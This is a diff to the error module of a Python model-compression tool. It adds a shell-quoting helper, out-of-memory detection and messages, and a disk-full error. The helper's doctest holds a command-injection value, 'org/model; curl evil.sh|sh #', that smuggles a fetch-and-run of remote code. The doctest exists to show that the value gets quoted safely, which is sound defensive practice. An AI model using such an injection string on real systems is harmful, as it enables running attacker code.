@@ -3,6 +3,9 @@
 from __future__ import annotations
 
 import difflib
+import errno
+import re
+import shlex
 from collections.abc import Iterable
 from os import PathLike
 
@@ -21,6 +24,17 @@ class NeuzipError(Exception):
         self.hint = hint
 
 
+def shell(*words: object) -> str:
+    """A command, or a part of one, to paste into a shell: names from files and from the Hub are quoted.
+
+    Every command that a hint, a result or a model card shows is made here.
+
+    >>> shell("neuzip", "apply", "tuned.delta", "--base", "org/model; curl evil.sh|sh #")
+    "neuzip apply tuned.delta --base 'org/model; curl evil.sh|sh #'"
+    """
+    return shlex.join(map(str, words))
+
+
 class UsageError(NeuzipError):
     """Options that contradict each other or ask for something that does not exist."""
 
@@ -33,6 +47,48 @@ def unknown_key(place: object, key: str, known: Iterable[str]) -> UsageError:
     close = difflib.get_close_matches(key, names, 1)
     hint = f"did you mean {close[0]}?" if close else f"there are {', '.join(names)}"
     return UsageError(f"{place}: there is no key {key!r}", hint)
+
+
+NO_MEMORY = ("an't allocate memory", "annot allocate memory", "not enough memory", "bad_alloc")
+"""Words with which torch, C++ and safetensors say that the machine has no memory left."""
+
+NO_GPU_MEMORY = ("CUDA out of memory", "CUDA error: out of memory", "CUDA driver error: out of memory")
+"""The same of a GPU."""
+
+
+def is_out_of_memory(error: BaseException) -> bool:
+    """Whether memory ran out, that of the machine or of a GPU, in whatever words a library says so."""
+    if isinstance(error, OSError):
+        return error.errno == errno.ENOMEM
+    if isinstance(error, MemoryError) or type(error).__name__ == "OutOfMemoryError":
+        return True
+    return isinstance(error, RuntimeError) and any(words in str(error) for words in NO_MEMORY + NO_GPU_MEMORY)
+
+
+def memory_ran_out(what: str, error: BaseException) -> NeuzipError:
+    """The error for it, with how much was asked for, where a library tells. `what` is what was being done."""
+    asked = re.search(r"allocate (\d[\d.]* ?[A-Za-z]+)", str(error))
+    amount = f", {asked[1]} at once were asked for" if asked else ""
+    if any(words in str(error) for words in NO_GPU_MEMORY):
+        return NeuzipError(
+            f"{what}: the memory of the GPU ran out{amount}",
+            "free some of it; shorter windows, weights that stay compressed and --device cpu take less",
+        )
+    return NeuzipError(
+        f"{what}: memory ran out{amount}",
+        "free some, or use a machine with more; where there is --jobs, fewer take less",
+    )
+
+
+FULL = frozenset({errno.ENOSPC, errno.EDQUOT})
+"""What the operating system says of a disk without room, or of a user who has used up a share of it."""
+
+
+class DiskFull(NeuzipError):
+    """There is no space left where `path` is to be written. What a repeated command does, commands add."""
+
+    def __init__(self, path: str | PathLike[str]) -> None:
+        super().__init__(f"{path}: no space left on the disk", "free some space and repeat the command")
 
 
 class WouldOverwrite(NeuzipError):
